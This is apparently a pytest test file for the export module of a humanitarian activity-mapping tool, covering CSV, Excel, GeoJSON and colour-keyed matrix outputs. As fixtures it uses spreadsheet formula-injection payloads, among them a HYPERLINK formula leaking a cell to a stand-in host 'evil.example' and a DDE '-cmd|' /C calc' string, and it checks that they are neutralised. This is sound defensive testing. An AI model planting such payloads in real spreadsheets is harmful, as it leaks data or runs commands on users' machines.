"""Exports: what someone opening the file in Excel, pandas, QGIS or HDX would see."""

from __future__ import annotations

import csv
import io
import json
from types import SimpleNamespace

import pandas as pd
import pytest
from openpyxl import load_workbook

from mapping.outputs import export, palette
from mapping.returns import schema
from tests.factories.report import activity, frame

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def acts() -> pd.DataFrame:
    return frame([
        activity(org_name="Alpha Relief", sector="Health", targeted=1200.0, reached=300.0, budget=25000.5),
        activity(org_name="Beta Aid", org_acronym="BA", sector="Nutrition", adm2_name="لاہور",
                 targeted=800.0, reached=None, budget=None, end_date=None, remarks=HYPERLINK),
        activity(org_name="+Gamma", sector="WASH", activity="-cmd|' /C calc'!A0", project="@SUM(1+1)",
                 targeted=5.0, reached=5.0, contact_phone="+92 300 1234567"),
    ])


def test_safe_cell_neutralises_formula_starts_and_leaves_other_values():
    assert export.safe_cell(HYPERLINK) == "'" + HYPERLINK
    assert export.safe_cell("+92 300") == "'+92 300"
    assert export.safe_cell("-1") == "'-1"
    assert export.safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert export.safe_cell("\tcmd") == "'\tcmd"
    assert export.safe_cell("\rcmd") == "'\rcmd"
    assert export.safe_cell("Lahore") == "Lahore"
    assert export.safe_cell(-5) == -5
    assert export.safe_cell(None) is None


def test_dataset_csv_has_bom_header_hxl_row_and_schema_order(acts):
    data = export.dataset_csv(acts)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads Urdu only with the BOM
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    public = [f for f in schema.FIELDS if not f.personal]
    assert rows[0] == [f.header for f in public] + ["Reported in"]
    assert rows[1] == [f.hxl for f in public] + ["#meta+reported_in"]
    assert len(rows) == 2 + 3
    body = [dict(zip([f.name for f in public], r)) for r in rows[2:]]
    assert body[0]["targeted"] == "1200" and body[0]["budget"] == "25000.5"
    assert body[0]["start_date"] == "2026-01-01"
    assert body[1]["adm2_name"] == "لاہور"
    assert body[1]["reached"] == "" and body[1]["end_date"] == ""
    assert body[1]["remarks"] == "'" + HYPERLINK
    assert body[2]["org_name"] == "'+Gamma"
    assert body[2]["activity"] == "'-cmd|' /C calc'!A0"
    assert body[2]["project"] == "'@SUM(1+1)"
    assert "#contact+phone" not in rows[1] and "Focal point e-mail" not in rows[0]


def test_dataset_contacts_only_when_allowed(acts):
    with_contacts = export.dataset_csv(acts, include_contacts=True).decode("utf-8-sig")
    assert "#contact+email" in with_contacts and "a.person@example.org" in with_contacts
    assert "'+92 300 1234567" in with_contacts  # a phone number starting with + is neutralised too
    without = export.dataset_csv(acts).decode("utf-8-sig")
    assert "a.person@example.org" not in without and "A. Person" not in without


def test_dataset_xlsx_rereads_in_pandas_with_the_same_numbers(acts):
    data = export.dataset_xlsx(acts, data_version="abc123", notes=["Filters: All activities"])
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Activities", "About"]
    ws = wb["Activities"]
    assert ws["A1"].value == "Organisation" and ws["A2"].value == "#org+name"
    assert ws.freeze_panes == "A3"
    cells = [c.value for c in ws[4]]
    assert all(not (isinstance(v, str) and v.startswith("=")) for row in ws.iter_rows(values_only=True) for v in row)
    assert "'" + HYPERLINK in cells
    about = [r[0] for r in wb["About"].iter_rows(values_only=True)]
    assert "Data version" in about
    df = pd.read_excel(io.BytesIO(data), sheet_name="Activities", header=0, skiprows=[1])
    assert list(df["Beneficiaries targeted"]) == [1200, 800, 5]
    assert df["Beneficiaries reached"].sum() == 305
    assert df["Budget"].iloc[0] == 25000.5
    assert str(df["Start date"].iloc[0].date()) == "2026-01-01"
    assert df["District"].iloc[1] == "لاہور"
    assert df["Organisation"].iloc[2] == "'+Gamma"


def test_dataset_xlsx_with_hxl_row_goes_through_ingest_without_errors(acts):
    from mapping.geo import gazetteer
    from mapping.returns import ingest

    units = pd.DataFrame([{"adm2_pcode": "PK617", "adm2_name": "Lahore", "adm1_pcode": "PK6", "adm1_name": "Punjab"}])
    clean = frame([activity(org_name="Alpha Relief", sector="Health", subsector=None, modality=None),
                   activity(org_name="Alpha Relief", sector="Nutrition", subsector=None, modality=None,
                            targeted=77.0, reached=7.0)])
    data = export.dataset_xlsx(clean)
    gz = gazetteer.Gazetteer.from_units(units)
    result = ingest.read_return(data, "export.xlsx", gazetteer=gz,
                                orgs=[{"name": "Alpha Relief", "acronym": "AR", "type": "NGO", "aliases": []}])
    assert [i.message for i in result.errors] == []
    assert result.accepted == 2
    assert sorted(r["targeted"] for r in result.records) == [77, 1000]


def _matrix() -> pd.DataFrame:
    df = pd.DataFrame({"Health": [2, 0, 1], "WASH": [5, 1, 0]}, index=["Lahore", "Quetta", "=Evil"])
    df["Total"] = [6, 1, 1]
    df.loc["Total"] = [3, 5, 7]
    df.index.name = "District"
    return df


def test_matrix_xlsx_heat_colours_match_the_palette_and_totals_are_bold():
    data = export.matrix_xlsx(_matrix(), title="Partners by district")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "Partners by district"
    header_row = next(r for r in range(1, 10) if ws.cell(r, 1).value == "District")
    assert [ws.cell(header_row, c).value for c in range(1, 5)] == ["District", "Health", "WASH", "Total"]
    lahore = header_row + 1
    # vmax is 5 (totals excluded): WASH/Lahore is the darkest, Health/Quetta (0) is the "nothing" grey
    classes = palette.value_classes(5)
    assert ws.cell(lahore, 3).fill.fgColor.rgb[-6:] == classes[-1].colour.lstrip("#").upper()
    assert ws.cell(lahore, 2).fill.fgColor.rgb[-6:] == palette.class_colour_of(2, classes).lstrip("#").upper()
    # the sheet carries the key: each class's label on its own colour, above the table
    key_row = next(r for r in range(1, header_row) if ws.cell(r, 1).value == "Colour key (per cell)")
    assert [(ws.cell(key_row, 2 + j).value, ws.cell(key_row, 2 + j).fill.fgColor.rgb[-6:])
            for j in range(len(classes))] == [(c.label, c.colour.lstrip("#").upper()) for c in classes]
    assert ws.cell(lahore + 1, 2).fill.fgColor.rgb[-6:] == palette.ZERO_COLOUR.lstrip("#").upper()
    assert ws.cell(lahore, 3).font.color.rgb[-6:] == "FFFFFF"  # white text on the darkest blue
    assert ws.cell(lahore + 2, 1).value == "'=Evil"
    total_row = lahore + 3
    assert ws.cell(total_row, 1).value == "Total" and ws.cell(total_row, 3).font.b
    assert ws.cell(lahore, 4).font.b and ws.cell(lahore, 4).value == 6
    assert ws.cell(total_row, 4).value == 7


def test_matrices_xlsx_one_sheet_per_matrix_with_safe_names():
    data = export.matrices_xlsx({"Sector x district": _matrix(), "Partner/sector": _matrix()})
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Sector x district", "Partner_sector"]


def test_matrix_csv_reads_back_with_same_numbers_and_total_last():
    data = export.matrix_csv(_matrix())
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", index_col=0)
    assert list(back.columns) == ["Health", "WASH", "Total"]
    assert back.index[-1] == "Total" and back.loc["Lahore", "WASH"] == 5 and back.loc["Total", "Total"] == 7
    assert "'=Evil" in back.index


def test_coverage_geojson_carries_numbers_geometry_and_attribution():
    import geopandas as gpd
    from shapely.geometry import box

    adm2 = gpd.GeoDataFrame({"adm2_pcode": ["PK617", "PK201"], "adm2_name": ["Lahore", "Quetta"],
                             "adm1_pcode": ["PK6", "PK2"], "adm1_name": ["Punjab", "Balochistan"]},
                            geometry=[box(74, 31, 75, 32), box(66, 30, 67, 31)], crs="EPSG:4326")
    bset = SimpleNamespace(version="test-1", adm2=adm2, adm1=None,
                           meta={"attribution": "Boundaries: test & co", "disclaimer": "Not official."})
    summary = pd.DataFrame({"adm2_pcode": ["PK617", "PK201"], "partners": [3, 0], "activities": [7, 0],
                            "targeted": [1500.0, float("nan")], "sectors": [["Health", "WASH"], []]})
    data = json.loads(export.coverage_geojson(bset, summary))
    assert data["type"] == "FeatureCollection" and data["attribution"] == "Boundaries: test & co"
    assert data["disclaimer"] == "Not official." and data["boundary_version"] == "test-1"
    props = {f["properties"]["adm2_pcode"]: f["properties"] for f in data["features"]}
    assert props["PK617"]["partners"] == 3 and props["PK617"]["targeted"] == 1500.0
    assert props["PK617"]["sectors"] == "Health; WASH"
    assert props["PK201"]["partners"] == 0 and props["PK201"]["targeted"] is None
    assert data["features"][0]["geometry"]["type"] == "Polygon"
    back = gpd.read_file(io.BytesIO(json.dumps(data).encode()))
    assert len(back) == 2 and back.loc[back.adm2_pcode == "PK617", "partners"].iloc[0] == 3


def test_cli_export_round_trips_through_validate_and_pandas(tmp_path, capsys):
    from mapping import cli
    from tests.factories.report import LAHORE, QUETTA, stored_world

    rows = [activity(org_name="Alpha Relief", sector="Health", targeted=1200.0, **LAHORE),
            activity(org_name="Alpha Relief", sector="Nutrition", targeted=300.0, **QUETTA),
            activity(org_name="Beta Aid", org_acronym="BA", sector="Health", targeted=50.0, remarks=HYPERLINK,
                     **QUETTA)]
    stored_world(rows)
    xlsx, csv_out, geo, mat = (tmp_path / n for n in ("all.xlsx", "health.csv", "cover.geojson", "m.xlsx"))
    assert cli.main(["export", "--format", "xlsx", "--out", str(xlsx)]) == 0
    assert cli.main(["export", "--out", str(csv_out), "--sector", "Health"]) == 0  # format from the extension
    assert cli.main(["export", "--format", "geojson", "--out", str(geo), "--simplify", "0.01"]) == 0
    assert cli.main(["export", "--matrices", "--out", str(mat)]) == 0
    capsys.readouterr()
    # the exported workbook is a valid return again: validate finds no error
    assert cli.main(["validate", str(xlsx)]) == 0, capsys.readouterr().out
    df = pd.read_excel(xlsx, sheet_name="Activities", skiprows=[1])
    assert sorted(df["Beneficiaries targeted"]) == [50, 300, 1200]
    assert "Focal point e-mail" not in df.columns  # contacts only with --contacts
    assert "'" + HYPERLINK in list(df["Remarks"])
    health = pd.read_csv(csv_out, encoding="utf-8-sig", skiprows=[1])
    assert sorted(health["Beneficiaries targeted"]) == [50, 1200]
    assert set(health["Sector"]) == {"Health"}
    data = json.loads(geo.read_bytes())
    props = {f["properties"]["adm2_pcode"]: f["properties"] for f in data["features"]}
    assert len(props) == 160 and props["PK226"]["partners"] == 2 and props["PK617"]["partners"] == 1
    assert props["PK101"]["partners"] == 0 and "CC BY-IGO 3.0" in data["attribution"]
    wb = load_workbook(mat)
    assert wb.sheetnames == ["Sector x district", "Partner x sector", "Partner x province"]
    assert cli.main(["export", "--out", str(tmp_path / "x.pdf")]) == 1  # no format from a .pdf name
    assert "--format must be one of xlsx, csv, geojson" in capsys.readouterr().err


def test_palette_is_one_scale_with_zero_apart_and_readable_text():
    assert palette.heat_colour(0, 10) == palette.ZERO_COLOUR
    assert palette.heat_colour(float("nan"), 10) == palette.NO_DATA_COLOUR
    assert palette.heat_colour(10, 10) == palette.heat_colour(25, 10) == "#081d58"  # capped at the darkest
    light, dark = palette.heat_colour(1, 10), palette.heat_colour(9, 10)
    assert sum(int(light[i:i + 2], 16) for i in (1, 3, 5)) > sum(int(dark[i:i + 2], 16) for i in (1, 3, 5))
    assert palette.text_colour("#081d58") == "#ffffff" and palette.text_colour(light) == "#000000"
    assert palette.class_breaks(4) == [(1, 1), (2, 2), (3, 3), (4, 4)]
    classes = palette.class_breaks(27)
    assert classes[0] == (1, 1) and classes[-1][1] == 27 and len(classes) <= 6
    assert all(a[1] + 1 == b[0] for a, b in zip(classes, classes[1:]))  # no value falls between classes
    assert palette.class_label(5, 8) == "5–8" and palette.class_label(3, 3) == "3"
